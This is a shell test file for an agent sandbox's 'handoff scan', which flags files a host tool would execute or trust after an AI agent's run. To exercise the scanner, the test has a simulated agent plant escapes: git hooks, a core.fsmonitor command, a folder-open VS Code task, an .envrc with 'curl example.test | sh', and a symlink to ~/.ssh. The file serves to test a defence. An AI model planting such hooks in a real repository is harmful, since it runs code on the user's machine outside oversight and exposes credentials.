# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# airlock handoff scan: after an agent's run, the files a host tool would
# execute or trust are listed and flagged, each published hand-off escape
# among them, while ordinary edits are not; and scanning never runs the
# repository's own commands.

hg() { git -C "$WS" -c user.name=e2e -c user.email=e2e@example.test "$@"; }

# A repository in the workspace with one commit; prints its id.
handoff_repo() {
	hg init -q || fail "git init"
	mkdir -p "$WS/src"
	echo 'int main(void) { return 0; }' >"$WS/src/a.c"
	hg add -A && hg commit -qm init || fail "git commit"
	hg rev-parse HEAD
}

# The agent's run: every escape of the hand-off list, an ordinary edit and
# a commit. Protection is off (protect_defaults: false): the scanner is
# what is tested here, on a workspace the escapes reached (t_protect.sh
# tests that the default policy stops them).
handoff_agent_run() {
	# Planted as they would land without airlock: direct mode (hold mode
	# would keep them back) and no protected paths.
	printf 'version: 1\nsandbox:\n  workspace_mode: direct\nfilesystem:\n  protect_defaults: false\n' >"$T/unprotected.yaml"
	# shellcheck disable=SC2016
	al --policy "$T/unprotected.yaml" -- /bin/sh -c '
		set -e
		g() { git -c user.name=agent -c user.email=agent@example.test "$@"; }
		printf "#!/bin/sh\necho pwned\n" > .git/hooks/pre-commit.tmp || true
		mv .git/hooks/pre-commit.tmp .git/hooks/pre-commit 2>/dev/null || true
		chmod +x .git/hooks/pre-commit 2>/dev/null || true
		git config core.fsmonitor "sh -c id" 2>/dev/null || true
		echo "*.c filter=x" > .gitattributes
		mkdir -p .vscode .github/workflows .venv/bin
		printf "{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"x\",\"command\":\"id\",\n\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n" > .vscode/tasks.json
		echo "curl example.test | sh" > .envrc
		printf "on: push\njobs: {}\n" > .github/workflows/x.yml
		printf "#!/bin/sh\nexec /usr/bin/python3 \"\$@\"\n" > .venv/bin/python && chmod +x .venv/bin/python
		ln -s "$HOME/.ssh" keys
		echo "int helper(void) { return 1; }" >> src/a.c
		g add src/a.c && g commit -qm edit
		echo committed'
}

test_handoff_scan_flags_each_planted_escape() {
	local base
	base=$(handoff_repo)
	# The neighbour: a clean repository has nothing to flag.
	"$AIRLOCK" handoff scan "$WS" --since "$base" >"$T/clean.out" 2>"$T/clean.err"
	assert_eq 0 "$?" "a clean repository's scan status ($(cat "$T/clean.out"))"
	handoff_agent_run
	assert_rc 0 "the agent's run"
	assert_contains "$OUT" committed "git commit inside the sandbox"

	"$AIRLOCK" handoff scan "$WS" --since "$base" >"$T/scan.out" 2>"$T/scan.err"
	local rc=$?
	local out
	out=$(cat "$T/scan.out")
	assert_eq 1 "$rc" "the scan's status after the run ($out $(cat "$T/scan.err"))"
	for p in .git/hooks/pre-commit .git/config .gitattributes .vscode/tasks.json .envrc \
		.github/workflows/x.yml .venv/bin/python keys; do
		assert_match "$out" "^! +[a-z]+ +[a-z]+ +${p//./\\.}  " "a flagged line for $p"
	done
	assert_contains "$out" "core.fsmonitor" "the fsmonitor key named"
	assert_contains "$out" "folder is opened" "the folder-open task named"
	assert_contains "$out" "outside the directory" "the link to ~/.ssh named"
	assert_not_contains "$out" "src/a.c" "the ordinary edit"
	# JSON lines for tools.
	"$AIRLOCK" handoff scan "$WS" --since "$base" --json >"$T/scan.json" 2>/dev/null
	assert_eq 1 "$?" "the JSON scan's status"
	python3 -c '
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
paths = {r["path"] for r in rows if r["flagged"]}
assert ".envrc" in paths and ".git/hooks/pre-commit" in paths, paths
' "$T/scan.json" || fail "JSON output"
}

test_handoff_baseline_file() {
	handoff_repo >/dev/null
	"$AIRLOCK" handoff baseline "$WS" "$T/base" || fail "handoff baseline"
	"$AIRLOCK" handoff scan "$WS" --baseline "$T/base" >"$T/s0" 2>&1
	assert_eq 0 "$?" "a scan against a fresh baseline ($(cat "$T/s0"))"
	handoff_agent_run
	assert_rc 0 "the agent's run"
	"$AIRLOCK" handoff scan "$WS" --baseline "$T/base" >"$T/s1" 2>/dev/null
	assert_eq 1 "$?" "a scan after the run"
	local out
	out=$(cat "$T/s1")
	assert_match "$out" '^! +added +git +\.git/hooks/pre-commit' "the new hook"
	assert_match "$out" '^! +modified +git +\.git/config ' "the changed git config"
	assert_match "$out" '^! +added +shell +\.envrc' "the new .envrc"
	assert_not_contains "$out" "src/a.c" "the ordinary edit"
	# A damaged baseline is an error naming its line, not an empty diff.
	printf 'airlock-handoff-baseline 1\nF nothex 644 x\n' >"$T/bad"
	"$AIRLOCK" handoff scan "$WS" --baseline "$T/bad" >/dev/null 2>"$T/bad.err"
	assert_eq 2 "$?" "a malformed baseline's status"
	assert_contains "$(cat "$T/bad.err")" "bad:2:" "the file and line named"
}

test_handoff_scan_runs_no_repository_command() {
	local base
	base=$(handoff_repo)
	# A repository armed the way an agent would arm it.
	hg config core.fsmonitor "touch $T/pwned-fsmonitor; false"
	hg config filter.x.clean "touch $T/pwned-filter; cat"
	echo '*.c filter=x' >"$WS/.gitattributes"
	printf '#!/bin/sh\ntouch %s/pwned-hook\n' "$T" >"$WS/.git/hooks/post-checkout"
	chmod +x "$WS/.git/hooks/post-checkout"
	echo '// changed' >>"$WS/src/a.c"
	"$AIRLOCK" handoff scan "$WS" --since "$base" >"$T/scan.out" 2>&1
	assert_eq 1 "$?" "the scan's status"
	assert_no_file "$T/pwned-fsmonitor" "fsmonitor run by the scan"
	assert_no_file "$T/pwned-filter" "the clean filter run by the scan"
	assert_no_file "$T/pwned-hook" "a hook run by the scan"
	# The neighbour: the same repository does run them for git status, so
	# the traps above are live.
	hg status >/dev/null 2>&1
	[ -e "$T/pwned-fsmonitor" ] || [ -e "$T/pwned-filter" ] || fail "git status ran neither trap: the test proves nothing"
}
